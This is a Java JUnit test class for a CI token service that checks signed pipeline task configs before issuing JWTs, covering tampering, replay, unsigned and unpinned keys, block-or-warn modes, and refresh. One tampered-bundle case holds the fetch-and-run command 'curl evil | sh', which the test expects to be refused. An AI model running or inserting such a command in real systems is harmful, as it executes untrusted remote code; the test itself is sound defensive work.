package org.cijwt.signedconfig;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.cijwt.claims.BuildMetadata;
import org.cijwt.claims.ClaimNames;
import org.cijwt.delivery.DeliveryRecords;
import org.cijwt.delivery.TokenDelivery;
import org.cijwt.delivery.TokenProfile;
import org.cijwt.errors.CiJwtException;
import org.cijwt.errors.ErrorCode;
import org.cijwt.fixtures.TestKeys;
import org.cijwt.jose.SigningAlgorithm;
import org.cijwt.keys.KeyEntry;
import org.cijwt.keys.KeyRing;
import org.cijwt.keys.PemKeySource;
import org.cijwt.keys.SigningKey;
import org.cijwt.testkit.TestKeyRings;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Pre-flight with signed task configs: verify, then block or warn, and say so in the token. */
class SignedConfigDeliveryTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String STEP = """
            task: plan
            config:
              platform: linux
              params: {AUTH_ROLE: example, VAULT_ADDR: ((.vault_addr))}
              run: {path: sh, args: [-ec, 'echo ((hvjwt:some_secret.username))']}
            """;

    @TempDir
    Path dir;

    SigningKey author;
    Path pinnedFile;
    String thumbprint;
    int bundles;

    @BeforeEach
    void keys() throws Exception {
        author = PemKeySource.file(TestKeys.copyPrivate(TestKeys.ED25519, dir)).load().requireSigner(SigningAlgorithm.EdDSA);
        pinnedFile = TestKeys.copyPublic(TestKeys.ED25519_PUBLIC, dir);
        thumbprint = KeyEntry.thumbprint(author.entry().jwk().toPublicJWK());
    }

    private ObjectNode signedStep(String pipeline, String job) throws Exception {
        ObjectNode step = (ObjectNode) new YAMLMapper().readTree(STEP);
        step.put("signature", StepSignatures.sign(SignedFields.of("main", pipeline, job, step), author));
        return step;
    }

    private static BuildMetadata build(JsonNode step) throws CiJwtException {
        return BuildMetadata.builder().team("main").pipeline("deploy").job("apply").task("plan").buildId("1234")
                .signedStep(step).build();
    }

    /** A bundle whose process is the step's command with its vars resolved, as a worker would create it. */
    private Path bundle(String secondArg, Map<String, String> env) throws Exception {
        Path b = Files.createDirectories(dir.resolve("bundle" + bundles++));
        ObjectNode spec = JSON.createObjectNode().put("ociVersion", "1.0.2");
        ObjectNode process = spec.putObject("process");
        process.putArray("args").add("sh").add("-ec").add(secondArg);
        process.put("cwd", "/tmp/build/1");
        process.putObject("user").put("uid", 0).put("gid", 0);
        var e = process.putArray("env").add("PATH=/bin");
        env.forEach((k, v) -> e.add(k + "=" + v));
        spec.putObject("root").put("path", "rootfs");
        Files.writeString(b.resolve("config.json"), spec.toString());
        return b;
    }

    private Path goodBundle() throws Exception {
        return bundle("echo hello-im-a-username", Map.of("AUTH_ROLE", "example", "VAULT_ADDR", "http://127.0.0.1:8200"));
    }

    private TokenDelivery preflight(ConfigVerifier.Behavior behavior, Map<String, ConfigVerifier.Behavior> perTeam, Path... pinned)
            throws Exception {
        ConfigVerifier verifier = new ConfigVerifier(PinnedKeys.reloading(List.of(pinned), Clock.systemUTC()), behavior, perTeam,
                Set.of());
        KeyRing ring = TestKeyRings.signing();
        return new TokenDelivery(() -> ring, Clock.systemUTC(), DeliveryRecords.open(dir.resolve("records")), verifier);
    }

    private static TokenProfile config() throws CiJwtException {
        return TokenProfile.defaults("https://ci.example.test");
    }

    @Test
    void deliverWhenTheSignedStepVerifiesAndTheContainerRunsItThenTheTokenSaysVerifiedWithTheSigner() throws Exception {
        Path bundle = goodBundle();
        TokenDelivery.Delivery d = preflight(ConfigVerifier.Behavior.BLOCK, Map.of(), pinnedFile)
                .deliver(build(signedStep("deploy", "apply")), config(), dir.resolve("tokens"), bundle);

        Map<String, Object> claims = d.defaultToken().claims().getClaims();
        assertThat(claims).containsEntry(ClaimNames.CONFIG_VERIFICATION, "verified").containsEntry(ClaimNames.CONFIG_SIGNER, thumbprint);
        assertThat((String) claims.get(ClaimNames.CONFIG_DIGEST)).matches("sha256:[0-9a-f]{64}");
        assertThat(d.metadata().config().verification()).isEqualTo("verified");
    }

    @Test
    void deliverUnderBlockWhenCommandChangedCopiedUnsignedOrUnpinnedThenRefusedWithTheReasonAndNoTokenLeft() throws Exception {
        Path otherKey = TestKeys.copyPublic(TestKeys.P256_PUBLIC, Files.createDirectories(dir.resolve("other")));
        Object[][] cases = {
                {build(signedStep("deploy", "apply")), bundle("curl evil | sh; echo hello-im-a-username", Map.of("AUTH_ROLE", "example")), pinnedFile, "command differs"},
                {build(signedStep("other-pipeline", "apply")), goodBundle(), pinnedFile, "replayed: signed for main/other-pipeline job apply"},
                {build(null), goodBundle(), pinnedFile, "unsigned"},
                {build(signedStep("deploy", "apply")), goodBundle(), otherKey, "not pinned"},
                {build(signedStep("deploy", "apply")), bundle("echo hello-im-a-username", Map.of("AUTH_ROLE", "admin")), pinnedFile,
                        "param AUTH_ROLE differs"},
        };
        for (Object[] c : cases) {
            Path tokens = dir.resolve("tokens-" + bundles);
            Path bundle = (Path) c[1];
            String before = Files.readString(bundle.resolve("config.json"));
            assertThatThrownBy(() -> preflight(ConfigVerifier.Behavior.BLOCK, Map.of(), (Path) c[2])
                    .deliver((BuildMetadata) c[0], config(), tokens, bundle))
                    .isInstanceOfSatisfying(CiJwtException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.CONFIG_NOT_VERIFIED))
                    .hasMessageContaining((String) c[3])
                    .hasMessageContaining("no token delivered");
            assertThat(tokens).doesNotExist();
            assertThat(Files.readString(bundle.resolve("config.json"))).isEqualTo(before);
        }
    }

    @Test
    void deliverUnderWarnWhenUnsignedOrFailedThenDeliveredAndTheTokenSaysSoWithoutASigner() throws Exception {
        TokenDelivery warn = preflight(ConfigVerifier.Behavior.WARN, Map.of(), pinnedFile);

        TokenDelivery.Delivery unsigned = warn.deliver(build(null), config(), dir.resolve("t1"), goodBundle());
        assertThat(unsigned.defaultToken().claims().getClaims()).containsEntry(ClaimNames.CONFIG_VERIFICATION, "unsigned")
                .doesNotContainKey(ClaimNames.CONFIG_SIGNER);

        TokenDelivery.Delivery failed = warn.deliver(build(signedStep("other-pipeline", "apply")), config(), dir.resolve("t2"), goodBundle());
        assertThat(failed.defaultToken().claims().getClaims()).containsEntry(ClaimNames.CONFIG_VERIFICATION, "failed")
                .doesNotContainKey(ClaimNames.CONFIG_SIGNER).containsKey(ClaimNames.CONFIG_DIGEST);
    }

    /** Review finding 4 (issue 20): refreshes kept saying verified after the author's key was unpinned. */
    @Test
    void refreshWhenTheSignerIsUnpinnedAfterDeliveryThenBlockRefusesAndWarnSaysFailedWithoutASigner() throws Exception {
        for (ConfigVerifier.Behavior behavior : ConfigVerifier.Behavior.values()) {
            Path pinned = TestKeys.copyPublic(TestKeys.ED25519_PUBLIC, Files.createDirectories(dir.resolve("pins-" + behavior)));
            TokenDelivery delivery = preflight(behavior, Map.of(), pinned);
            TokenDelivery.Delivery delivered = delivery.deliver(build(signedStep("deploy", "apply")), config(),
                    dir.resolve("tokens-" + behavior), goodBundle());
            TokenProfile.TokenConfig jwt = config().token("jwt").orElseThrow();

            assertThat(delivery.refresh(delivered.metadata(), jwt).claims().getClaims())
                    .as("still pinned").containsEntry(ClaimNames.CONFIG_VERIFICATION, "verified")
                    .containsEntry(ClaimNames.CONFIG_SIGNER, thumbprint);

            Path other = TestKeys.copyPublic(TestKeys.P256_PUBLIC, Files.createDirectories(dir.resolve("other-" + behavior)));
            Files.copy(other, pinned, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
            Files.setLastModifiedTime(pinned, java.nio.file.attribute.FileTime.fromMillis(System.currentTimeMillis() + 2_000));

            if (behavior == ConfigVerifier.Behavior.BLOCK) {
                assertThatThrownBy(() -> delivery.refresh(delivered.metadata(), jwt))
                        .isInstanceOfSatisfying(CiJwtException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.CONFIG_NOT_VERIFIED))
                        .hasMessageContaining("no longer pinned").hasMessageContaining("no fresh token");
            } else {
                assertThat(delivery.refresh(delivered.metadata(), jwt).claims().getClaims())
                        .containsEntry(ClaimNames.CONFIG_VERIFICATION, "failed")
                        .doesNotContainKey(ClaimNames.CONFIG_SIGNER)
                        .containsEntry(ClaimNames.CONFIG_DIGEST, delivered.defaultToken().claims().getClaims().get(ClaimNames.CONFIG_DIGEST));
            }
        }
    }

    @Test
    void deliverWhenTheOperatorOverridesATeamThenThatTeamsBehaviourWins() throws Exception {
        TokenDelivery blockButMainWarns = preflight(ConfigVerifier.Behavior.BLOCK, Map.of("main", ConfigVerifier.Behavior.WARN), pinnedFile);

        TokenDelivery.Delivery d = blockButMainWarns.deliver(build(null), config(), dir.resolve("t"), goodBundle());

        assertThat(d.defaultToken().claims().getClaims()).containsEntry(ClaimNames.CONFIG_VERIFICATION, "unsigned");
    }

    @Test
    void claimsSupportedWhenListedThenTheConfigClaimsAreThere() {
        assertThat(ClaimNames.ALL).contains(ClaimNames.CONFIG_DIGEST, ClaimNames.CONFIG_SIGNER, ClaimNames.CONFIG_VERIFICATION);
    }

    @Test
    void metadataWhenSignedStepIsNotAnObjectThenRefused() {
        assertThatThrownBy(() -> BuildMetadata.fromJson("{\"team\":\"main\",\"buildid\":\"1\",\"signed_step\":\"task: x\"}", "md"))
                .isInstanceOfSatisfying(CiJwtException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.METADATA_INVALID))
                .hasMessageContaining("signed_step must be");
    }
}
